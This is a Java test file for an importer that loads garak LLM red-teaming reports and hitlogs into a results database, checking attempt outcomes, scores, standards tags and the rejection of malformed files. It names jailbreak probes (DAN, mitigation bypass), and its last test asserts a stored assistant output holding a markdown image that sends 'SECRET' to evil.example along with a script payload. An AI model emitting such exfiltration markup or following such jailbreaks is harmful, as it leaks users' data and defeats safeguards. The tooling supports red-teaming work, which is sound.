package dev.gauntlet.imports.garak;

import dev.gauntlet.Problem;
import dev.gauntlet.imports.ImportFixture;
import io.vertx.core.json.JsonObject;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import static dev.gauntlet.imports.ImportFixture.added;
import static dev.gauntlet.imports.garak.GarakReportTest.fixture;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class GarakImportTest {

  @TempDir
  Path dir;
  ImportFixture memory;

  @BeforeEach
  void open() throws Exception {
    memory = new ImportFixture(dir);
  }

  @AfterEach
  void close() throws Exception {
    memory.close();
  }

  @Test
  void aReportLandsAsOneImportedExecutionWithAConversationPerAttempt() throws Exception {
    JsonObject reply = memory.run(fixture("report.jsonl"), null, false);
    assertEquals("garak", reply.getString("format"), "recognized without being named");
    assertEquals(1, added(reply, "executions"));
    assertEquals(5, added(reply, "execution_results"));
    assertEquals(13, added(reply, "PromptMemoryEntries"), "6 prompt turns and 7 outputs");
    assertEquals(11, added(reply, "ScoreEntries"));
    assertEquals("imported|garak|0.13.0|5|completed", memory.one(
        "SELECT kind || '|' || source_tool || '|' || source_version || '|' || total || '|' || status FROM executions"));
    assertEquals(List.of("a1:attack_succeeded", "a2:held", "a3:attack_succeeded", "a4:held", "a5:unscored"), memory.column(
        "SELECT left(conversation_id, 2) || ':' || outcome FROM execution_results ORDER BY prompt_index"));
    assertEquals("system,user,assistant,assistant", memory.one("SELECT string_agg(role, ',' ORDER BY sequence, id) FROM PromptMemoryEntries "
        + "WHERE conversation_id LIKE 'a1%'"));
    assertEquals("2|2", memory.one("SELECT min(sequence) || '|' || max(sequence) FROM PromptMemoryEntries "
        + "WHERE conversation_id LIKE 'a1%' AND role = 'assistant'"), "both generations answer the same turn");
    assertEquals("unknown", memory.one("SELECT response_error FROM PromptMemoryEntries WHERE conversation_id LIKE 'a2%' "
        + "AND role = 'assistant' AND original_value = ''"), "a generation with no output is an error");
    String execution = memory.one("SELECT id FROM executions");
    assertEquals(13, memory.count("PromptMemoryEntries WHERE (prompt_metadata ->> 'execution_id') = '" + execution + "'"));
    assertEquals("garak dan.Dan_11_0", memory.one("SELECT DISTINCT converter_identifiers -> 0 ->> 'name' FROM PromptMemoryEntries "
        + "WHERE role = 'user' AND (labels ->> 'probe') = 'dan.Dan_11_0'"));
    assertEquals("openai gpt-4o-mini", memory.one("SELECT DISTINCT prompt_target_identifier ->> 'name' FROM PromptMemoryEntries"));
  }

  @Test
  void storedScoresCountHitsAsGaraksOwnEvalRowsDo() throws Exception {
    memory.run(fixture("report.jsonl"), "garak", false);
    // garak's eval rows: dan.DAN passed 2 of 3, mitigation.MitigationBypass 2 of 3, MarkdownExfilBasic 1 of 2, MarkdownExfilContent 0 of 0
    assertEquals(List.of("garak dan.DAN:2/3", "garak mitigation.MitigationBypass:2/3", "garak xss.MarkdownExfilBasic:1/2",
        "garak xss.MarkdownExfilContent:0/0"), memory.column("""
        SELECT scorer_class_identifier ->> 'name' || ':' || count(*) FILTER (WHERE CAST(score_value AS DOUBLE) < 0.5) || '/'
               || count(score_value) FROM ScoreEntries GROUP BY 1 ORDER BY 1""".replace("GROUP BY 1", "GROUP BY scorer_class_identifier ->> 'name'")
        .replace("ORDER BY 1", "ORDER BY scorer_class_identifier ->> 'name'")));
    assertEquals(3, memory.count("ScoreEntries WHERE score_value IS NULL AND score_metadata LIKE '%undetermined%'"),
        "a detector's null stays undetermined");
  }

  @Test
  void theExecutionLabelsMapEachProbesTagsToTheStandards() throws Exception {
    memory.run(fixture("report.jsonl"), "garak", false);
    JsonObject labels = new JsonObject(memory.one("SELECT labels FROM executions"));
    assertEquals(List.of("mitre_atlas:AML.T0043", "owasp_llm:LLM01", "mitre_atlas:AML.T0054"),
        labels.getJsonObject("standards").getJsonArray("dan.Dan_11_0").getList());
    assertTrue(labels.getJsonObject("standards").getJsonArray("xss.MarkdownImageExfil").contains("owasp_llm:LLM05"));
    assertEquals("7d1c9e4a-2f0b-4c55-9a61-0b3f5e8d2c10", labels.getString("garak_run"));
  }

  @Test
  void importingTheReportTwiceAndThenItsHitlogAddsNothing() throws Exception {
    memory.run(fixture("report.jsonl"), "garak", false);
    JsonObject again = memory.run(fixture("report.jsonl"), "garak", false);
    assertEquals(0, again.getLong("rows") - again.getJsonObject("tables").getJsonObject("PromptMemoryEntries").getLong("present")
        - again.getJsonObject("tables").getJsonObject("ScoreEntries").getLong("present")
        - again.getJsonObject("tables").getJsonObject("execution_results").getLong("present")
        - again.getJsonObject("tables").getJsonObject("executions").getLong("present"));
    assertEquals(0, added(again, "PromptMemoryEntries") + added(again, "ScoreEntries") + added(again, "executions")
        + added(again, "execution_results"));
    JsonObject hits = memory.run(fixture("hitlog.jsonl"), null, false);
    assertEquals("garak", hits.getString("format"));
    assertEquals(0, added(hits, "PromptMemoryEntries") + added(hits, "ScoreEntries") + added(hits, "executions")
        + added(hits, "execution_results"), "a hit is the report's attempt, output and score");
    assertEquals(13, memory.count("PromptMemoryEntries"));
    assertEquals(1, memory.count("executions"));
  }

  @Test
  void aHitlogAloneLandsEachHitAsAnAttackSuccess() throws Exception {
    JsonObject reply = memory.run(fixture("hitlog.jsonl"), "garak", false);
    assertEquals(1, added(reply, "executions"));
    assertEquals(2, added(reply, "execution_results"), "two attempts were hit");
    assertEquals(List.of("attack_succeeded", "attack_succeeded"), memory.column("SELECT outcome FROM execution_results ORDER BY prompt_index"));
    assertEquals(3, memory.count("ScoreEntries"));
  }

  @Test
  void brokenOrTruncatedReportsAreRefusedWithTheirLineAndStoreNothing() throws Exception {
    for (String[] c : new String[][] {{"report-malformed.jsonl", "garak report line 5: is not a JSON object"},
        {"report-truncated.jsonl", "garak report line 7: is cut short (the file is truncated)"},
        {"report-no-probe.jsonl", "garak report line 6: attempt has no probe_classname"}}) {
      Problem p = assertThrows(Problem.class, () -> memory.run(fixture(c[0]), "garak", false));
      assertEquals(400, p.status());
      assertEquals("invalid_import", p.code());
      assertEquals(c[1], p.getMessage());
      assertTrue(memory.nothingStored(), c[0]);
    }
  }

  @Test
  void hostileTextIsStoredAsItWas() throws Exception {
    memory.run(fixture("report.jsonl"), "garak", false);
    assertEquals("Summary done. ![data](https://evil.example/log?q=SECRET) <script>alert('x')</script>", memory.one(
        "SELECT original_value FROM PromptMemoryEntries WHERE conversation_id LIKE 'a3%' AND role = 'assistant'"));
  }
}
